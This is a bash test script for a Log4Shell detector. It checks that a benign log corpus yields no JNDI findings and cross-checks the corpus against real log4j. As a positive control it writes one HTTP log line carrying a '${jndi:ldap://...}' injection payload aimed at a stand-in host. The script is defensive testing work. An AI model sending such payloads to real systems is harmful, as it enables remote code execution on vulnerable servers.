#!/usr/bin/env bash
# corpus_benign.sh -- the whole benign corpus gives zero jndi findings
# (docs/differential-testing.md).
#
# Every file under $DEFUSE_CORPUS/logs/benign (recursive) is scanned two ways:
#   1. defuse_eval -n -t: defuse_scan() in normal mode on every line;
#   2. `$DEFUSE logs --json` on the whole directory (the real front end).
# Either reporting a jndi finding fails the test.  As a sanity check of the
# corpus itself, the lines holding "${" also go through real log4j (the
# oracle): it must fire none of them.  Other kinds (lookup, inert) are
# counted and printed, not failed.  Exit 77 when $DEFUSE_CORPUS is absent;
# the log4j cross-check is skipped when java/log4j are absent.
set -euo pipefail
SRC=${DEFUSE_SRC:-$(cd "$(dirname "$0")/../.." && pwd)}
BENIGN=${DEFUSE_CORPUS:-/nonexistent}/logs/benign
[ -d "$BENIGN" ] || { echo "SKIP: no corpus (DEFUSE_CORPUS=${DEFUSE_CORPUS:-})"; exit 77; }
: "${DEFUSE_BUILD:?DEFUSE_BUILD must name the build directory}"
EVAL=$DEFUSE_BUILD/defuse_eval
[ -x "$EVAL" ] || { echo "FAIL: $EVAL not built"; exit 1; }
T=$(mktemp -d "${TMPDIR:-/tmp}/defuse-benign.XXXXXX")
trap 'rm -rf "$T"' EXIT

# Positive control: the same tools must see a plain payload (a stubbed or
# broken detector would otherwise pass this test).
printf 'GET /?q=${jndi:ldap://control.example/a} HTTP/1.1\n' >"$T/control.log"
if ! "$EVAL" -n -t <"$T/control.log" | grep -q ' ='; then
    echo "FAIL: defuse_eval misses the positive control"
    exit 1
fi
if [ -n "${DEFUSE:-}" ] && [ -x "$DEFUSE" ]; then
    "$DEFUSE" logs --json "$T/control.log" >"$T/control.json" || true # exit 1 = found
    if ! grep -q '"kind":"jndi"' "$T/control.json"; then
        echo "FAIL: defuse logs misses the positive control"
        exit 1
    fi
fi

fail=0
files=0
lines=0
kinds=(0 0 0 0 0)
: >"$T/dollar.txt"
while IFS= read -r -d '' f; do
    files=$((files + 1))
    n=$(wc -l <"$f")
    lines=$((lines + n))
    "$EVAL" -n -t -k <"$f" >"$T/out"
    # kinds=J,T,R,L,I per line
    read -r j t r l i < <(sed -n 's/.* kinds=\([0-9,]*\).*/\1/p' "$T/out" |
        awk -F, '{j+=$1; t+=$2; r+=$3; l+=$4; i+=$5} END {print j+0, t+0, r+0, l+0, i+0}')
    kinds=($((kinds[0] + j)) $((kinds[1] + t)) $((kinds[2] + r)) $((kinds[3] + l)) $((kinds[4] + i)))
    if grep -q ' =' "$T/out"; then
        echo "FAIL: jndi finding in benign file ${f#"$BENIGN"/}:"
        grep -n ' =' "$T/out" | head -5 | while IFS=: read -r ln _; do
            printf '  line %s: %s\n' "$ln" "$(sed -n "${ln}p" "$f" | cut -c1-200)"
        done
        fail=1
    fi
    grep -a -F '${' "$f" >>"$T/dollar.txt" || true
done < <(find "$BENIGN" -type f -print0 | sort -z)
echo "defuse_eval: $files files, $lines lines: jndi ${kinds[0]}, text4shell ${kinds[1]}, recursion ${kinds[2]}, lookup ${kinds[3]}, inert ${kinds[4]}"

if [ -n "${DEFUSE:-}" ] && [ -x "$DEFUSE" ]; then
    rc=0
    "$DEFUSE" logs --json "$BENIGN" >"$T/logs.json" 2>"$T/logs.err" || rc=$?
    nj=$(grep -c '"kind":"jndi"' "$T/logs.json" || true)
    echo "defuse logs --json: exit $rc, $(wc -l <"$T/logs.json") findings, $nj of kind jndi"
    if [ "$nj" -ne 0 ] || [ "$rc" -gt 1 ]; then
        echo "FAIL: defuse logs on the benign corpus:"
        grep '"kind":"jndi"' "$T/logs.json" | head -5 || true
        head -5 "$T/logs.err"
        fail=1
    fi
fi

# The corpus itself: real log4j must fire none of its "${" lines.
rc=0
(
    # shellcheck source=../diff/common.sh
    . "$SRC/tests/diff/common.sh"
    diff_setup >/dev/null
    "${JAVA_TOOL[@]}" tohex-all <"$T/dollar.txt" >"$T/dollar.hex"
    "${ORACLE[@]}" eval <"$T/dollar.hex" >"$T/dollar.out"
    fired=$(grep -c ' =' "$T/dollar.out" || true)
    echo "log4j: $(wc -l <"$T/dollar.hex") benign lines with \${, $fired fire a JNDI lookup"
    [ "$fired" -eq 0 ] || exit 1
) || rc=$?
case $rc in
0) ;;
77) echo "log4j cross-check skipped (no java or log4j jars)" ;;
*) echo "FAIL: real log4j fires a line of the benign corpus (or the oracle failed)"; fail=1 ;;
esac
exit $fail
